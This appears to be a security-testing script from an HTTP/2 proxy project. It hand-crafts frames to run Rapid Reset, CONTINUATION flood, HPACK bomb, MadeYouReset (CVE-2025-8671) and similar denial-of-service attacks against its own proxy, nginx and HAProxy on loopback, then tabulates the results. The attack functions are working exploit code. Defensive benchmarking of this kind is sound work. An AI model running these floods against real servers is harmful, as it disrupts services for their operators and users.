#!/usr/bin/env python3
"""The known HTTP/2 attacks against one TLS listener, each on a fresh connection, bounded in
count and time, loopback only; prints per attack how the connection ended, how many requests
reached the server behind, the time to that end and the proxy's RSS growth.

    tools/h2attacks.py HOST PORT [--backend-log FILE] [--pid PID] [--only NAME,...]
    tools/h2attacks.py compare [--juggler BIN] [--only NAME,...]

--backend-log: the stdout of a testserver without --quiet (a line `METHOD TARGET STATUS` per
request): each attack's requests carry a marker in their path, so its lines are counted.
--pid: the proxy's process; its RSS and its children's (nginx's workers) are sampled during
each attack. Used by docs/SECURITY.md (the HTTP/2 table, `compare` below starts Juggler,
nginx and HAProxy in front of one testserver) and by tests/e2e/test_h2_attacks.py, which
asserts on the same results.

Frames are written by hand (hyperframe, hpack: Debian's python3-h2 dependencies), so the
client can send what the RFC forbids and python3-h2's state machine would refuse.
"""

from __future__ import annotations

import argparse
import os
import re
import select
import socket
import ssl
import sys
import threading
import time
import uuid

try:
    import hpack
    import hyperframe.frame as hf
except ImportError:  # the Debian modules live with the system interpreter
    sys.path.append("/usr/lib/python3/dist-packages")
    import hpack
    import hyperframe.frame as hf

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 4: "SETTINGS_TIMEOUT",
          5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR",
          10: "CONNECT_ERROR", 11: "ENHANCE_YOUR_CALM", 12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED"}


def frame(kind: int, flags: int, sid: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + sid.to_bytes(4, "big") + payload


class Client:
    """One TLS connection speaking HTTP/2 by frames, in one thread: every send is followed by
    a read of what already came (pump), and every frame the server sends is recorded
    (GOAWAY, RST_STREAM, :status, DATA bytes, ACKs), its SETTINGS acknowledged and its DATA
    given back as WINDOW_UPDATE unless `stalled`."""

    def __init__(self, host: str, port: int, server_name: str = "localhost", cafile: str | None = None,
                 settings: bytes = b"", timeout: float = 20.0):
        ctx = ssl.create_default_context(cafile=cafile) if cafile else ssl._create_unverified_context()
        ctx.set_alpn_protocols(["h2"])
        raw = socket.create_connection((host, port), timeout=timeout)
        self.sock = ctx.wrap_socket(raw, server_hostname=server_name)
        if self.sock.selected_alpn_protocol() != "h2":
            raise RuntimeError(f"{host}:{port} did not choose h2 (ALPN: {self.sock.selected_alpn_protocol()})")
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.decoder.max_allowed_table_size = 1 << 20
        self.decoder.max_header_list_size = 1 << 24
        self.buf = b""
        self.goaway: tuple[int, int] | None = None  # (error code, last stream id)
        self.end_time: float | None = None         # when the GOAWAY or the end came
        self.reset_time: float | None = None       # when the server's first RST_STREAM came
        self.eof = False                           # EOF or a reset read
        self.broken = False                        # a send failed
        self.resets: dict[int, int] = {}           # stream -> the server's RST_STREAM code
        self.status: dict[int, list[str]] = {}     # stream -> :status of each HEADERS (1xx, final)
        self.fields: dict[int, list[list[tuple[str, str]]]] = {}  # stream -> each HEADERS' fields
        self.data: dict[int, int] = {}             # stream -> DATA bytes
        self.body: dict[int, bytearray] = {}       # stream -> the DATA bytes themselves
        self.frames: list[tuple[int, int, int]] = []  # (type, flags, stream) of each frame read
        self.ended: set[int] = set()               # END_STREAM seen
        self.acks = {"ping": 0, "settings": 0}
        self.stalled = False
        self.next_sid = 1
        self.send(PREFACE + frame(4, 0, 0, settings))

    def send(self, data: bytes) -> bool:
        """Sends, then reads what already came; False once the connection is gone."""
        if self.broken or self.eof:
            return False
        try:
            self.sock.settimeout(20)
            self.sock.sendall(data)
        except (OSError, ssl.SSLError):
            self.broken = True
            self.end_time = self.end_time or time.monotonic()
            return False
        self.pump(0)
        return not self.eof

    def pump(self, timeout: float) -> None:
        """Reads and handles frames for up to `timeout` seconds (0: what is there now)."""
        deadline = time.monotonic() + timeout
        while not self.eof:
            left = max(0.0, deadline - time.monotonic())
            if not self.sock.pending():
                r, _, _ = select.select([self.sock], [], [], left)
                if not r:
                    return
            try:
                self.sock.setblocking(False)
                chunk = self.sock.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError):
                if left == 0:
                    return
                continue
            except (OSError, ssl.SSLError):
                chunk = b""
            finally:
                self.sock.setblocking(True)
            if not chunk:
                self.eof = True
                self.end_time = self.end_time or time.monotonic()
                return
            self.buf += chunk
            while len(self.buf) >= 9:
                length = int.from_bytes(self.buf[:3], "big")
                if len(self.buf) < 9 + length:
                    break
                kind, flags = self.buf[3], self.buf[4]
                sid = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
                payload, self.buf = self.buf[9:9 + length], self.buf[9 + length:]
                self.frames.append((kind, flags, sid))
                self._frame(kind, flags, sid, payload)

    def _frame(self, kind: int, flags: int, sid: int, payload: bytes) -> None:
        if kind == 0:  # DATA
            self.data[sid] = self.data.get(sid, 0) + len(payload)
            if flags & 0x8:  # PADDED
                payload = payload[1:len(payload) - payload[0]]
            self.body.setdefault(sid, bytearray()).extend(payload)
            if payload and not self.stalled:
                inc = len(payload).to_bytes(4, "big")
                self._reply(frame(8, 0, 0, inc) + frame(8, 0, sid, inc))
        elif kind in (1, 9):  # HEADERS, CONTINUATION (a server's blocks are small: taken whole)
            block = payload
            if kind == 1 and flags & 0x8:
                block = block[1:len(block) - block[0]]
            if kind == 1 and flags & 0x20:
                block = block[5:]
            try:
                fields = [(k.decode() if isinstance(k, bytes) else k, v.decode() if isinstance(v, bytes) else v)
                          for k, v in self.decoder.decode(block)]
            except Exception:  # noqa: BLE001 (an undecodable block is recorded, not fatal)
                fields = [(":status", "?")]
            self.fields.setdefault(sid, []).append(fields)
            self.status.setdefault(sid, []).extend(v for k, v in fields if k == ":status")
        elif kind == 3:  # RST_STREAM
            self.resets[sid] = int.from_bytes(payload[:4], "big")
            self.reset_time = self.reset_time or time.monotonic()
        elif kind == 4:  # SETTINGS
            if flags & 1:
                self.acks["settings"] += 1
            else:
                self._reply(frame(4, 1, 0))
        elif kind == 6 and flags & 1:  # PING ACK
            self.acks["ping"] += 1
        elif kind == 7:  # GOAWAY
            if self.goaway is None:
                self.goaway = (int.from_bytes(payload[4:8], "big"), int.from_bytes(payload[:4], "big") & 0x7FFFFFFF)
                self.end_time = time.monotonic()
        if kind in (0, 1) and flags & 1:
            self.ended.add(sid)

    def _reply(self, data: bytes) -> None:
        try:
            self.sock.setblocking(True)
            self.sock.sendall(data)
        except (OSError, ssl.SSLError):
            self.broken = True

    # ---------------------------------------------------------------- sending

    def headers(self, path: str, end_stream: bool = True, sid: int | None = None, method: str = "GET",
                extra=(), authority: str = "localhost", then: bytes = b"") -> int:
        """A request's HEADERS (and `then`, frames sent in the same write); its stream id."""
        if sid is None:
            sid = self.next_sid
        self.next_sid = max(self.next_sid, sid + 2)
        block = self.encoder.encode([(":method", method), (":scheme", "https"), (":authority", authority),
                                     (":path", path), *extra])
        self.send(frame(1, 0x4 | (0x1 if end_stream else 0), sid, block) + then)
        return sid

    def wait(self, done, timeout: float) -> bool:
        """Reads until done() or the connection ended or `timeout` seconds passed."""
        deadline = time.monotonic() + timeout
        while not done() and not self.eof and time.monotonic() < deadline:
            self.pump(min(0.2, max(0.0, deadline - time.monotonic())))
        return done()

    def wait_end(self, timeout: float) -> bool:
        return self.wait(lambda: self.goaway is not None or self.eof, timeout)

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass


# ---------------------------------------------------------------- measuring


def rss_kb(pid: int) -> int:
    """VmRSS of pid and its descendants (nginx's master and workers), in kB."""
    children: dict[int, list[int]] = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/stat") as f:
                    ppid = int(f.read().rsplit(")", 1)[1].split()[1])
                children.setdefault(ppid, []).append(int(entry))
            except (OSError, IndexError, ValueError):
                pass
    total, todo = 0, [pid]
    while todo:
        p = todo.pop()
        todo.extend(children.get(p, []))
        try:
            with open(f"/proc/{p}/status") as f:
                total += int(re.search(r"VmRSS:\s+(\d+)", f.read()).group(1))
        except (OSError, AttributeError):
            pass
    return total


class RssSampler:
    def __init__(self, pid: int | None):
        self.pid, self.peak, self.base = pid, 0, 0
        self.stop = threading.Event()
        if pid:
            self.base = self.peak = rss_kb(pid)
            self.thread = threading.Thread(target=self._run, daemon=True)
            self.thread.start()

    def _run(self) -> None:
        while not self.stop.wait(0.05):
            self.peak = max(self.peak, rss_kb(self.pid))

    def growth(self) -> int | None:
        if not self.pid:
            return None
        self.stop.set()
        self.thread.join()
        return self.peak - self.base


def backend_count(log, marker: str, settle: float = 1.0, limit: float = 10.0) -> int | None:
    """Lines of the backend's log naming `marker`, once the count stayed the same for `settle` s.
    `log`: the log's path, or a function of the marker counting them (the tests')."""
    if not log:
        return None
    deadline, last, since = time.monotonic() + limit, -1, time.monotonic()
    while True:
        if callable(log):
            n = log(marker)
        else:
            with open(log, errors="replace") as f:
                n = sum(1 for ln in f if marker in ln)
        now = time.monotonic()
        if n != last:
            last, since = n, now
        elif now - since >= settle or now > deadline:
            return n
        time.sleep(0.1)


# ---------------------------------------------------------------- the attacks
# Each takes the client and the marked path and returns what it sent. The runner then
# waits for the connection's end (bounded) and measures.


def rapid_reset(c: Client, path: str, n: int = 2000) -> int:
    sent = 0
    for _ in range(n):
        sid = c.headers(path)
        if not c.send(frame(3, 0, sid, (8).to_bytes(4, "big"))):  # RST_STREAM CANCEL
            break
        sent += 1
    return sent


def continuation_flood(c: Client, path: str, n: int = 5000) -> int:
    # HEADERS without END_HEADERS, then CONTINUATION frames of literal fields, never ending.
    block = c.encoder.encode([(":method", "GET"), (":scheme", "https"), (":authority", "localhost"),
                              (":path", path)])
    c.send(frame(1, 0x1, 1, block))
    field = b"\x00\x05x-pad\x7f\x49" + b"a" * 200  # a literal without indexing, a 200-byte value
    sent = 0
    for _ in range(n):
        if not c.send(frame(9, 0, 1, field * 8)):
            break
        sent += 1
    return sent


def hpack_bomb(c: Client, path: str, n: int = 4000) -> int:
    # One 4 KB field into the dynamic table (the encoder indexes it), then referenced n times
    # in the same block: one byte each on the wire, 16 MB decoded.
    c.headers(path, extra=[("x-bomb", "b" * 4000)] * n)
    return n


def settings_flood(c: Client, path: str, n: int = 1000) -> int:
    sent = 0
    for i in range(n):
        if not c.send(frame(4, 0, 0, (3).to_bytes(2, "big") + (100 + i).to_bytes(4, "big"))):
            break
        sent += 1
    return sent


def ping_flood(c: Client, path: str, n: int = 1000) -> int:
    sent = 0
    for i in range(n):
        if not c.send(frame(6, 0, 0, i.to_bytes(8, "big"))):
            break
        sent += 1
    return sent


def empty_data_flood(c: Client, path: str, n: int = 1000) -> int:
    sid = c.headers(path, end_stream=False, method="POST")
    sent = 0
    for _ in range(n):
        if not c.send(frame(0, 0, sid, b"")):
            break
        sent += 1
    return sent


def zero_window(c: Client, path: str, n: int = 1) -> int:
    # SETTINGS_INITIAL_WINDOW_SIZE 0 went with the preface (see SETTINGS_FOR): not a byte of
    # the answer may be sent, and the client never opens the window.
    c.stalled = True
    c.headers(path.replace("/ping", "/bytes") + "&n=1000000")
    return 1


def _provoke(c: Client, path: str, n: int, bad) -> int:
    """MadeYouReset (CVE-2025-8671): a request, and in the same write a frame that is a stream
    error on it, so the *server* resets the stream (while the request may be on its way to
    the backend); in a loop. bad(sid) -> the frame."""
    sent = 0
    for _ in range(n):
        sid = c.next_sid
        c.headers(path, then=bad(sid))
        if c.eof or c.broken:
            break
        sent += 1
    return sent


def made_you_reset(c: Client, path: str, n: int = 1000) -> int:
    # WINDOW_UPDATE taking the stream's window past 2^31-1: FLOW_CONTROL_ERROR (RFC 9113 6.9.1).
    return _provoke(c, path, n, lambda sid: frame(8, 0, sid, (0x7FFFFFFF).to_bytes(4, "big")))


def made_you_reset_priority(c: Client, path: str, n: int = 1000) -> int:
    # PRIORITY making the stream depend on itself: PROTOCOL_ERROR (RFC 9113 5.3.1).
    return _provoke(c, path, n, lambda sid: frame(2, 0, sid, sid.to_bytes(4, "big") + b"\x10"))


def made_you_reset_zero_increment(c: Client, path: str, n: int = 1000) -> int:
    # WINDOW_UPDATE with increment 0 on the stream: PROTOCOL_ERROR (RFC 9113 6.9).
    return _provoke(c, path, n, lambda sid: frame(8, 0, sid, (0).to_bytes(4, "big")))


def made_you_reset_data(c: Client, path: str, n: int = 1000) -> int:
    # DATA on the half-closed (remote) stream: STREAM_CLOSED (RFC 9113 5.1).
    return _provoke(c, path, n, lambda sid: frame(0, 0, sid, b"x"))


def made_you_reset_field(c: Client, path: str, n: int = 1000) -> int:
    """HEADERS with a connection-specific field: a malformed request (RFC 9113 8.2.2), the
    stream reset before anything is forwarded."""
    sent = 0
    for _ in range(n):
        c.headers(path, extra=[("connection", "keep-alive")])
        if c.eof or c.broken:
            break
        sent += 1
    return sent


def stream_id_reuse(c: Client, path: str, n: int = 1) -> int:
    sid = c.headers(path)
    c.wait(lambda: sid in c.ended or sid in c.resets, 10)
    c.headers(path, sid=sid)  # the same id again, on a closed stream
    return 2


def stream_id_decreasing(c: Client, path: str, n: int = 1) -> int:
    """A request on stream 2n+1, then n requests on the ids below it (1, 3, ...): each one
    an id the client may no longer use (RFC 9113 5.1.1)."""
    c.headers(path, sid=2 * n + 1)
    sent = 1
    for i in range(n):
        c.headers(path, sid=2 * i + 1)
        if c.eof or c.broken:
            break
        sent += 1
    return sent


def stream_id_decreasing_flood(c: Client, path: str, n: int = 300) -> int:
    return stream_id_decreasing(c, path, n)


def stream_id_even(c: Client, path: str, n: int = 1) -> int:
    c.headers(path, sid=2)
    return 1


ATTACKS = {
    "rapid_reset": rapid_reset,
    "continuation_flood": continuation_flood,
    "hpack_bomb": hpack_bomb,
    "settings_flood": settings_flood,
    "ping_flood": ping_flood,
    "empty_data_flood": empty_data_flood,
    "zero_window": zero_window,
    "made_you_reset": made_you_reset,
    "made_you_reset_priority": made_you_reset_priority,
    "made_you_reset_zero_increment": made_you_reset_zero_increment,
    "made_you_reset_data": made_you_reset_data,
    "made_you_reset_field": made_you_reset_field,
    "stream_id_reuse": stream_id_reuse,
    "stream_id_decreasing": stream_id_decreasing,
    "stream_id_decreasing_flood": stream_id_decreasing_flood,
    "stream_id_even": stream_id_even,
}
SETTINGS_FOR = {"zero_window": (4).to_bytes(2, "big") + (0).to_bytes(4, "big")}  # INITIAL_WINDOW_SIZE 0


def run(name: str, host: str, port: int, backend_log=None, pid: int | None = None,
        wait: float = 20.0, n: int | None = None, cafile: str | None = None) -> dict:
    """Runs one attack on a fresh connection; its result as a dict (see describe())."""
    marker = f"h2atk-{name}-{uuid.uuid4().hex[:8]}"
    path = f"/ping?{marker}"
    rss = RssSampler(pid)
    c = Client(host, port, cafile=cafile, settings=SETTINGS_FOR.get(name, b""))
    start = time.monotonic()
    try:
        sent = ATTACKS[name](c, path) if n is None else ATTACKS[name](c, path, n)
        c.wait_end(wait)
        result = {
            "attack": name, "sent": sent, "goaway": c.goaway, "eof": c.eof, "broken": c.broken,
            "seconds": None if c.end_time is None else round(c.end_time - start, 3),
            "reset_seconds": None if c.reset_time is None else round(c.reset_time - start, 3),
            "resets": dict(c.resets), "status": dict(c.status), "fields": dict(c.fields), "data": dict(c.data),
            "acks": dict(c.acks),
        }
    finally:
        c.close()
    result["rss_kb"] = rss.growth()
    result["backend"] = backend_count(backend_log, marker)
    result["marker"] = marker
    return result


def describe(r: dict) -> str:
    """How the connection ended, in the table's words."""
    if r["goaway"] is not None:
        code, last = r["goaway"]
        end = f"GOAWAY {ERRORS.get(code, code)}"
    elif r["eof"] or r["broken"]:
        end = "closed without GOAWAY"
    else:
        end = "still open"
    codes = sorted({ERRORS.get(v, v) for v in r["resets"].values()})
    finals = [s for v in r["status"].values() for s in v if not s.startswith("1")]
    extra = []
    if r["resets"]:
        extra.append(f"{len(r['resets'])} RST_STREAM {'/'.join(codes)}")
    if finals:
        counts = {s: finals.count(s) for s in sorted(set(finals))}
        extra.append(", ".join(f"{k}×{v}" if v > 1 else k for k, v in counts.items()))
    return end + (f" ({'; '.join(extra)})" if extra else "")


# ---------------------------------------------------------------- the comparison (docs/SECURITY.md)

NGINX_CONF = """worker_processes 1;
daemon off;
pid {d}/nginx.pid;
error_log {d}/nginx-error.log;
events {{ worker_connections 1024; }}
http {{
  access_log off;
  client_body_temp_path {d}/t1; proxy_temp_path {d}/t2; fastcgi_temp_path {d}/t3;
  uwsgi_temp_path {d}/t4; scgi_temp_path {d}/t5;
  send_timeout 10s;
  keepalive_timeout 10s;
  upstream web {{ server {backend}; keepalive 16; }}
  server {{
    listen {host}:{port} ssl http2;
    ssl_certificate {d}/h2.crt;
    ssl_certificate_key {d}/h2.key;
    location / {{ proxy_pass http://web; proxy_http_version 1.1; proxy_set_header Connection ""; }}
  }}
}}
"""
HAPROXY_CONF = """global
  maxconn 1000
defaults
  mode http
  timeout connect 5s
  timeout client 10s
  timeout server 30s
  http-reuse always
frontend fe
  bind {host}:{port} ssl crt {d}/h2.pem alpn h2,http/1.1
  default_backend be
backend be
  server s1 {backend}
"""


def compare(args) -> int:
    """Juggler (tests/routes/h2attack.def: defaults, client timeout 10 s), nginx and HAProxy
    (the same timeout) in front of one testserver on 127.0.210.1:6921; every attack against
    each; a Markdown table of the results."""
    import shutil
    import subprocess
    import tempfile
    root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    host, backend = "127.0.210.1", "127.0.210.1:6921"
    d = tempfile.mkdtemp(prefix="h2attacks-")
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes",
                    "-keyout", f"{d}/h2.key", "-out", f"{d}/h2.crt", "-days", "2", "-subj", "/CN=localhost",
                    "-addext", f"subjectAltName=DNS:localhost,IP:{host}"], check=True, capture_output=True)
    with open(f"{d}/h2.pem", "w") as out:
        out.write(open(f"{d}/h2.crt").read() + open(f"{d}/h2.key").read())
    with open(f"{d}/nginx.conf", "w") as f:
        f.write(NGINX_CONF.format(d=d, host=host, port=18520, backend=backend))
    with open(f"{d}/haproxy.cfg", "w") as f:
        f.write(HAPROXY_CONF.format(d=d, host=host, port=18530, backend=backend))
    log = f"{d}/backend.log"
    procs = []

    def start(argv, **kw):
        p = subprocess.Popen(argv, stdout=kw.pop("stdout", subprocess.DEVNULL), stderr=subprocess.STDOUT, **kw)
        procs.append(p)
        return p

    def listening(port: int) -> None:
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            try:
                socket.create_connection((host, port), timeout=1).close()
                return
            except OSError:
                time.sleep(0.1)
        raise RuntimeError(f"nothing listens on {host}:{port}")

    proxies = {}
    try:
        start([f"{root}/bin/testserver", "--host", host, "--port", "6921"], stdout=open(log, "w"))
        listening(6921)
        j = start([os.path.abspath(args.juggler), "--workers", "1", "--https-port", "18510", "--port", "18210"], cwd=d)
        proxies["Juggler"] = (18510, j.pid)
        n = start(["nginx", "-c", f"{d}/nginx.conf", "-p", d])
        proxies["nginx 1.22"] = (18520, n.pid)
        h = start(["haproxy", "-f", f"{d}/haproxy.cfg"])
        proxies["HAProxy 2.6"] = (18530, h.pid)
        for port, _ in proxies.values():
            listening(port)
        names = args.only.split(",") if args.only else list(ATTACKS)
        print("| attack | " + " | ".join(proxies) + " |")
        print("| --- |" + " --- |" * len(proxies))
        for name in names:
            cells = []
            for proxy, (port, pid) in proxies.items():
                r = run(name, host, port, log, pid, args.wait)
                when = f"{r['seconds']} s" if r["seconds"] is not None else f"> {args.wait:g} s"
                cells.append(f"{describe(r)}, {when}, →{r['backend']}, +{r['rss_kb']} kB")
                print(f"  {proxy}: {name} sent {r['sent']}: {cells[-1]} (first RST after {r['reset_seconds']} s)",
                      file=sys.stderr, flush=True)
            print(f"| {name} | " + " | ".join(cells) + " |", flush=True)
    finally:
        for p in procs:
            p.terminate()
        for p in procs:
            try:
                p.wait(timeout=10)
            except subprocess.TimeoutExpired:
                p.kill()
        shutil.rmtree(d, ignore_errors=True)
    return 0


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    if sys.argv[1:2] == ["compare"]:
        ap.add_argument("compare")
        ap.add_argument("--juggler", default=os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))),
                                                          "build", "routes-bin", "h2attack"))
        ap.add_argument("--only")
        ap.add_argument("--wait", type=float, default=20.0)
        return compare(ap.parse_args())
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--backend-log")
    ap.add_argument("--pid", type=int)
    ap.add_argument("--only", help="comma-separated attack names (default: all)")
    ap.add_argument("--wait", type=float, default=20.0, help="seconds to wait for the connection's end")
    args = ap.parse_args()
    if not (args.host.startswith("127.") or args.host in ("::1", "localhost")):
        ap.error("loopback only")
    names = args.only.split(",") if args.only else list(ATTACKS)
    print(f"{'attack':30} {'sent':>5} {'backend':>7} {'end s':>7} {'rst s':>7} {'rss kB':>7}  end")
    for name in names:
        r = run(name, args.host, args.port, args.backend_log, args.pid, args.wait)
        print(f"{name:30} {r['sent']:>5} {str(r['backend']):>7} {str(r['seconds']):>7} {str(r['reset_seconds']):>7} "
              f"{str(r['rss_kb']):>7}  "
              f"{describe(r)}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
